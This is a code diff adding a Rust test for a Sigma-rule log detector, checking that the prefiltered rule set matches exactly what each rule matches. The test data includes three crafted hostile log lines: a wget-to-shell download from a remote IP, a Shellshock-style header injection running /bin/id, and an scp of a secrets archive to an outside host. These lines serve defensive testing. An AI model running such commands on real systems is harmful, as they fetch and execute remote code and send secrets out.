@@ -300,3 +300,57 @@ fn unsupported_constructs_are_rejected_naming_file_and_construct() {
     let e = rejected("title: [unclosed\n");
     assert!(e.contains("yaml"), "{e}");
 }
+
+#[test]
+fn the_prefiltered_set_matches_exactly_what_each_rule_matches() {
+    use detector::rules::sigma::{SigmaScratch, SigmaSet};
+    let (rules, errors) = load_dir(rules_dir(), &LogsourceMap::default());
+    assert!(errors.is_empty());
+    let mut extra = vec![rule(
+        r#"
+title: not-based, needs no literal
+logsource: {product: linux}
+detection:
+    sel: {app: sshd}
+    filter: ['Accepted']
+    condition: sel and not filter
+"#,
+    )];
+    extra.extend(rules.iter().cloned());
+    let set = SigmaSet::new(extra.clone());
+    assert!(set.unfiltered() >= 1, "the field rule is always evaluated");
+    assert!(
+        set.unfiltered() < extra.len(),
+        "keyword rules go through the prefilter"
+    );
+    let mut scratch = SigmaScratch::default();
+    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
+    let mut lines: Vec<String> = ["Linux_2k.log", "OpenSSH_2k.log"]
+        .iter()
+        .flat_map(|f| {
+            std::fs::read_to_string(format!("{data}{f}"))
+                .unwrap()
+                .lines()
+                .map(String::from)
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    lines.extend([
+        "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh".to_string(),
+        "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".to_string(),
+        "<13>Nov 22 10:00:00 h bash[1]: SCP secrets.tar user@198.51.100.9:/tmp".to_string(),
+    ]);
+    let mut fired = 0;
+    for line in &lines {
+        let e = parse(line.as_bytes(), &ParseOptions::default());
+        let want: Vec<usize> = (0..extra.len()).filter(|&i| extra[i].matches(&e)).collect();
+        let mut got = Vec::new();
+        set.for_each_match(&e, &mut scratch, |i| got.push(i));
+        assert_eq!(got, want, "{line}");
+        fired += got.len();
+    }
+    assert!(
+        fired > 100,
+        "the field rule fires on sshd lines, the crafted ones on theirs: {fired}"
+    );
+}
